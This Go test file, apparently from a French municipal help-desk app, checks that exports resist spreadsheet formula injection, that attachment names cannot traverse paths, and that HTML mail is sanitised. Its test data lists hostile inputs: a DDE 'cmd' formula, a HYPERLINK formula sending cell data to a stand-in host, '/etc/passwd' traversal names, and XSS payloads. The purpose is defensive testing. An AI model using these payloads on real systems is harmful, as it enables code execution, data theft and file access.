package app

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"guichet/data"
)

// formulas are cells that a spreadsheet would compute.
var formulas = []string{
	`=HYPERLINK("http://x.example?"&A1;"Cliquez")`, "+33 3 88 11 22 33", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
}

// TestFormulaInjection: what people typed stays a text in the files that are
// exported, in both formats, and comes back as it was.
func TestFormulaInjection(t *testing.T) {
	d := openDesk(t)
	for i, formula := range formulas {
		o := d.organisation("Commune n°" + string(rune('a'+i)))
		o.Phone, o.Email = formula, ""
		d.done(d.UpdateOrganisation(d.admin, o))
	}
	ticket := d.ask("a@mairie.example", "=1+cmd", "Bonjour")
	for format, cells := range map[Format]func([]byte) [][]string{CSV: d.csvCells, XLSX: d.xlsxCells} {
		var organisations, tickets, audit, table bytes.Buffer
		d.done(d.Export(d.admin, OrganisationsFile, format, &organisations))
		d.done(d.ExportTickets(d.admin, data.TicketFilter{}, format, &tickets))
		d.done(d.ExportAudit(d.admin, data.AuditFilter{}, format, &audit))
		d.done(d.ExportTable(d.mailRoom, "essai", format, &table, []string{"Cellule"}, func(yield func([]string, error) bool) {
			for _, formula := range formulas {
				if !yield([]string{formula}, nil) {
					return
				}
			}
		}))
		for _, file := range []*bytes.Buffer{&organisations, &tickets, &audit, &table} {
			for _, row := range cells(file.Bytes()) {
				for _, cell := range row {
					if format == CSV && isFormula(cell) {
						t.Errorf("%s: a cell %q", format, cell)
					}
				}
			}
		}
		if !strings.Contains(strings.Join(flat(cells(tickets.Bytes())), "\n"), "1+cmd") {
			t.Errorf("%s: the subject of %s is gone", format, ticket.Number)
		}
		report, err := d.Import(d.admin, OrganisationsFile, bytes.NewReader(organisations.Bytes()), true)
		d.done(err)
		for _, line := range report.Lines {
			if line.Action != LineSame && !strings.ContainsAny(line.Name, "fg") { // a tab or a line's end is trimmed
				t.Errorf("%s: exported and imported, %s changes: %v", format, line.Name, line.Changes)
			}
		}
	}
}

func flat(rows [][]string) (cells []string) {
	for _, row := range rows {
		cells = append(cells, row...)
	}
	return cells
}

func (d *desk) csvCells(content []byte) [][]string {
	d.t.Helper()
	reader := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(content, []byte("\ufeff"))))
	reader.Comma = ';'
	rows, err := reader.ReadAll()
	d.done(err)
	return rows
}

// xlsxCells reads a workbook and asserts that each of its cells is a text.
func (d *desk) xlsxCells(content []byte) [][]string {
	d.t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(content))
	d.done(err)
	defer book.Close()
	sheet := book.GetSheetName(0)
	rows, err := book.GetRows(sheet)
	d.done(err)
	for y, row := range rows {
		for x := range row {
			cell, err := excelize.CoordinatesToCellName(x+1, y+1)
			d.done(err)
			formula, err := book.GetCellFormula(sheet, cell)
			d.done(err)
			kind, err := book.GetCellType(sheet, cell)
			d.done(err)
			if formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString && kind != excelize.CellTypeUnset {
				d.t.Errorf("cell %s is of type %v, formula %q", cell, kind, formula)
			}
			if isFormula(row[x]) {
				d.t.Errorf("cell %s reads %q, and would be computed once saved as CSV", cell, row[x])
			}
		}
	}
	return rows
}

// TestPathTraversal: a file's name in a mail leads nowhere but to the folder that
// it is opened in.
func TestPathTraversal(t *testing.T) {
	d := openDesk(t)
	for i, name := range []string{
		"../../../../etc/passwd", `..\..\Windows\system.ini`, "/etc/cron.d/x", `C:\autoexec.bat`, "a/../../b.txt", "\u202Etxt.exe", "..", ".", "", "nul.txt:stream", strings.Repeat("a", 400) + ".txt",
	} {
		mail := strings.ReplaceAll("From: a@mairie.example\nSubject: Pièce "+string(rune('a'+i))+"\nMessage-ID: <p"+string(rune('a'+i))+"@x>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"+
			"--x\nContent-Type: text/plain\n\nVoir.\n--x\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\""+strings.ReplaceAll(name, `\`, `\\`)+"\"\n\nx\n--x--\n", "\n", "\r\n")
		ticket := d.opened(mail)
		for _, file := range ticket.Messages[0].Attachments {
			if file.Name == "" || strings.ContainsAny(file.Name, `/\:`+"\u202e") || strings.HasPrefix(file.Name, ".") || len(file.Name) > 255 {
				t.Errorf("%q is kept as %q", name, file.Name)
			}
			path, err := d.OpenAttachment(d.helpDesk, file.ID, true)
			d.done(err)
			if folder := filepath.Clean(d.App.opened.folder); !strings.HasPrefix(path, folder+string(filepath.Separator)) || filepath.Base(path) != file.Name {
				t.Errorf("%q opens %s, outside %s", name, path, folder)
			}
			if info, err := os.Stat(path); err != nil || info.Mode().Perm()&0o077 != 0 {
				t.Errorf("%s: %v, %v", path, info, err)
			}
		}
	}
}

// TestHTMLInjection: of a mail's HTML nothing reaches the screen that runs, asks,
// or calls home.
func TestHTMLInjection(t *testing.T) {
	d := openDesk(t)
	attacks := []string{
		`<script>alert(1)</script>`, `<img src="http://x.example/pixel.png">`, `<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">ici</a>`,
		`<form action="http://x.example"><input name=code></form>`, `<iframe src="http://x.example"></iframe>`, `<style>body{background:url(http://x.example/a)}</style>`,
		`<div style="background:url(http://x.example/b)">x</div>`, `<svg onload=alert(1)>`, `<meta http-equiv=refresh content="0;url=http://x.example">`,
		`<link rel=stylesheet href="http://x.example/c.css">`, `<base href="http://x.example/">`, `<object data="http://x.example/d"></object>`,
	}
	mail := "From: a@mairie.example\r\nSubject: <b>Objet</b>\r\nMessage-ID: <h@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Bonjour</p>" + strings.Join(attacks, "\r\n") + "<p>Merci</p>\r\n"
	message := d.opened(mail).Messages[0]
	for _, bad := range []string{"<script", "x.example", "onerror", "onload", "javascript:", "<form", "<input", "<iframe", "<style", "style=", "<meta", "<link", "<base", "<object", "<svg"} {
		if strings.Contains(strings.ToLower(message.HTML), bad) {
			t.Errorf("%q stays in:\n%s", bad, message.HTML)
		}
	}
	if !strings.Contains(message.Text, "Bonjour") || !strings.Contains(message.Text, "Merci") || strings.Contains(message.Text, "alert(1)") {
		t.Errorf("the text reads %q", message.Text)
	}
}
